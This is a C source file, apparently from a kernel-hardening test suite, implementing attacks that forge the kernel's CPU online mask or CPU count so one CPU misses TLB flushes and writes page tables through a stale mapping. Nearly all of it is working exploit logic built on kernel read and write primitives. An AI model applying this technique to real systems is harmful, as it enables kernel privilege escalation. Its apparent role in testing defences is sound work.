// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks by way of when a key is in force. The kernel has all CPUs of a mask
 * forget old mappings, up to a highest number. One that was taken out of it, or has
 * a higher number, keeps the memory writable that has become page tables. With
 * page-table isolation a CPU forgets by itself under an emulator, whenever it enters
 * the kernel.
 */
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"

#define MASK		"__cpu_online_mask"
#define NUMBER		"nr_cpu_ids"
#define NUMBER_BITS	0xffffffffUL
#define FIRST_CPU	1
#define FORCE_PART	0x5c
#define TABLES		6144
#define CHOSEN		20	/* page of the block */
#define PATIENCE	3	/* seconds */

/* What the other CPU is to store; it does not sleep, lest it forgets. */
static struct order {
	volatile int pending, err;
	volatile uint64_t addr, value;
} *order;

static int start_other_cpu(void)
{
	int pid;

	order = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	pid = fork();
	if (pid)
		return pid;
	stay_on_cpu(1);
	for (;;) {
		while (!order->pending)
			;
		order->err = kwrite64(order->addr, order->value);
		order->pending = 0;
	}
}

static int store_on_other_cpu(const void *how, uint64_t addr, uint64_t value)
{
	(void)how;
	order->addr = addr;
	order->value = value;
	order->pending = 1;
	while (order->pending)
		;
	return order->err;
}

/* Where it says which CPUs there are, and what it says then. */
struct word {
	uint64_t addr, old, forged;
};

/* A kernel that waits for the CPU makes no table: then what it says is put back. */
static int put_back_later(const struct word *cpus)
{
	int pid = fork();

	if (pid)
		return pid;
	for (;;) {
		sleep(PATIENCE);
		kwrite64(cpus->addr, cpus->old);
	}
}

/* Is it one of those that the pool takes when it has used up its blocks? */
static bool is_in_chunk(const struct window *window)
{
	struct slot slot;

	return !kwalk(window->slot, LEAF, 0, &slot) && slot.level == LEVEL_PTE;
}

/*
 * The pool is emptied first; without one any table will do. The CPU is left
 * out from then on only: threads of its own that were to be woken
 * meanwhile would be moved to another, and die.
 */
static bool wait_for_table(volatile char *base, uint64_t page, const struct word *cpus,
			   struct window *window)
{
	bool is_out = false;
	int i;

	for (i = 1; i < TABLES; i++) {
		(void)base[i * PMD_SIZE];
		if (!window_open_behind(window, base + i * PMD_SIZE))
			return false;
		if (!is_protected() || (window->slot & -PAGE_SIZE) == page)
			return true;
		if (!is_out && is_in_chunk(window)) {
			is_out = true;
			kwrite64(cpus->addr, cpus->forged);
			store_on_other_cpu(NULL, page, 0);
			corrupt_command("free addr=0x%lx", page & -PMD_SIZE);
		}
	}
	return false;
}

static enum outcome store_with_old_mapping(volatile char *base, uint64_t page,
					   const struct word *cpus)
{
	struct window window;
	char text[64];
	int err;

	if (!wait_for_table(base, page, cpus, &window))
		return broken("none of %d tables is in the block", TABLES);
	err = window_map(&window, store_on_other_cpu, NULL, victim_phys());
	snprintf(text, sizeof(text), "%s", window.page);
	store_on_other_cpu(NULL, window.slot, 0);
	return judge_secret(text, err);
}

static enum outcome leave_cpu_out(const struct word *cpus)
{
	volatile char *base = sparse_region(user_room(FORCE_PART), TABLES, PROT_READ);
	int order_of_block = __builtin_ctzl(PMD_SIZE / PAGE_SIZE), other, later;
	enum outcome outcome;
	uint64_t block;

	if (!base || corrupt_command("alloc order=%d", order_of_block))
		return broken("no block");
	block = corrupt_answer("address");
	stay_on_cpu(0);
	other = start_other_cpu();
	later = put_back_later(cpus);
	(void)base[0];
	if (is_protected())
		use_up_blocks();
	outcome = store_with_old_mapping(base, block + CHOSEN * PAGE_SIZE, cpus);
	kwrite64(cpus->addr, cpus->old);
	kill(later, SIGKILL);
	kill(other, SIGKILL);
	corrupt_command("free");
	return outcome;
}

/* bits: of the word at the symbol, which are to say that there is one CPU */
static enum outcome leave_out_by(const char *symbol, uint64_t bits)
{
	struct word cpus = { .addr = ksymbol(symbol) };

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	if (!cpus.addr)
		return broken("where the kernel has its CPUs is not known");
	cpus.old = kread64(cpus.addr);
	cpus.forged = (cpus.old & ~bits) | FIRST_CPU;
	return leave_cpu_out(&cpus);
}

enum outcome cpu_mask(void)
{
	return leave_out_by(MASK, -1UL);
}

enum outcome cpu_number(void)
{
	return leave_out_by(NUMBER, NUMBER_BITS);
}
